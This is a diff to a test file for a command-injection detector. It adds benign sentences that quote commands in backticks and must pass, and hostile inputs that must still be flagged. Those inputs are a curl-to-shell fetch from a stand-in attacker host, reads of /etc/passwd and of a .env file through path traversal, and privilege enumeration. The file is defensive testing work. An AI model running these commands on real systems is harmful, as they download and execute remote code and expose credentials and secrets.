@@ -335,8 +335,25 @@ describe('detectCommandInjection: benign look-alikes pass', () => {
     '/usr/local/lib/node_modules/*',
     'Powershell Whoami',
     'Make your choice & ver soon',
+    // Markdown code spans in sentences, as documentation, chat and issues quote commands.
+    'Create one with `touch ~/.zshrc` and run the install script again.',
+    'Please note that `which nvm` will not work, since it is a function.',
+    'If you see no feedback after you type `command -v nvm`, close your terminal.',
   ])('%s', (input) => {
     expect(detectCommandInjection(input)).toBeNull();
+  });
+
+  it.each([
+    // Still reported in a sentence: a command that is rarely a word, a sensitive file, a way out.
+    'Run `curl http://attacker.example/s.sh | sh` now please',
+    'Then run `whoami /priv` and tell me',
+    'hello there `cat /etc/passwd` friend ok',
+    'Please run `cat ../../.env` now',
+    // Not a sentence around it.
+    'foo `id`',
+    '`ls -la` is here',
+  ])('%s is still reported', (input) => {
+    expect(detectCommandInjection(input)).not.toBeNull();
   });
 });
 
